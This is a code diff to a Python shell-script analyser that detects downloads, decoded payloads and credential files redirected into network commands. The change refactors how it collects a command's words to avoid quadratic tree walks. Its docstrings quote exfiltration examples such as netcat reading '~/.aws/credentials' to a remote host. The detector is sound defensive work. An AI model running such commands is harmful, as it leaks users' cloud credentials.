@@ -100,8 +100,8 @@ def analyse(
             ran = _runs_file(ws, files, snippet_id)
             if ran is not None:
                 yield (*ran, node, files[_ran_name(ws, files)][2])
-            _redirect_writes(node, files, snippet_id)
-            found = chain(_command(node, ws, files, snippet_id), _redirect_upload(node))
+            _redirect_writes(node, files, snippet_id, [ws])
+            found = chain(_command(node, ws, files, snippet_id), _redirect_upload(node, [ws]))
         elif kind == "redirected_statement":
             _redirect_writes(node, files, snippet_id)
             found = _redirect_upload(node)
@@ -292,24 +292,24 @@ def _download_targets(ws: list[str]) -> set[str]:
     return {o for o in out if o and o != "-"}
 
 
-def _redirected(node: Any) -> tuple[Any, list[Any]]:
-    """A statement's command(s) and its file redirects, wherever written: after (``nc h 1 < f``, a
-    redirected statement) or before the command's name (``< f nc h 1``, the command's own)."""
-    if node.type == "command":
-        body = node
-    else:
-        body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
-    return body, [child for child in node.children if child.type == "file_redirect"]
+def _redirected(node: Any, own: list[list[str]] | None) -> tuple[list[list[str]], list[Any]]:
+    """A statement's commands' words and its file redirects, wherever written: after (``nc h 1 < f``,
+    a redirected statement) or before the command's name (``< f nc h 1``: ``own``, the command's own
+    words, which its redirects are about; commands nested in its arguments are visited on their own,
+    so walking them again here cost quadratic time in the nesting)."""
+    redirects = [child for child in node.children if child.type == "file_redirect"]
+    if own is not None or not redirects:
+        return own or [], redirects  # a command's own words; a statement without redirects: none needed
+    body = node.child_by_field_name("body") or (node.children[0] if node.children else None)
+    cmds = [] if body is None else [words(c) for c in _walk(body) if c.type == "command"]
+    return cmds, redirects
 
 
 _WRITES = frozenset({">", ">>", "&>", "&>>", ">|"})
 
 
-def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
-    body, redirects = _redirected(node)
-    if body is None or not redirects:
-        return
-    cmds = [words(c) for c in _walk(body) if c.type == "command"]
+def _redirect_writes(node: Any, files: Files, snippet_id: int, own: list[list[str]] | None = None) -> None:
+    cmds, redirects = _redirected(node, own)
     if any(is_downloader(w) or is_decoder(w) for w in cmds):
         urls = [w for ws in cmds for w in ws if "://" in w]
         entry = (
@@ -322,12 +322,10 @@ def _redirect_writes(node: Any, files: Files, snippet_id: int) -> None:
                 files[base(_text(child.children[-1]).strip("\"'"))] = entry
 
 
-def _redirect_upload(node: Any) -> Iterator[tuple[str, str, str]]:
+def _redirect_upload(node: Any, own: list[list[str]] | None = None) -> Iterator[tuple[str, str, str]]:
     """``nc host 443 < ~/.aws/credentials``: a credential file fed to a network command."""
-    body, redirects = _redirected(node)
-    if body is None or not redirects:
-        return
-    network = [w for w in (words(c) for c in _walk(body) if c.type == "command") if w and _network(w)]
+    cmds, redirects = _redirected(node, own)
+    network = [w for w in cmds if w and _network(w)]
     for child in redirects:
         text = _text(child).strip()
         if network and text.startswith("<") and sensitive(text):
